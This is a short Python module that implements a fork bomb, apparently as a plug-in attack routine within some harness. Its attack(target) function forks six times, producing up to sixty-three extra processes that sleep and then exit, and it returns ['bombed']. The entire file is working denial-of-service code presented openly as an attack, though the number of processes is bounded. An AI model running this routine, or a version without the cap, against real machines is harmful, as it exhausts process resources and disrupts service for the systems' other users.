"""A fork bomb, of sixty-three processes at most: each one forks, and so do its children."""

import os
import time


def attack(target):
    for _ in range(6):
        try:
            os.fork()
        except OSError:
            return []
    if os.getppid() != target["pid"] and os.getpgid(0) != os.getpid():
        time.sleep(20)
        os._exit(0)
    return ["bombed"]
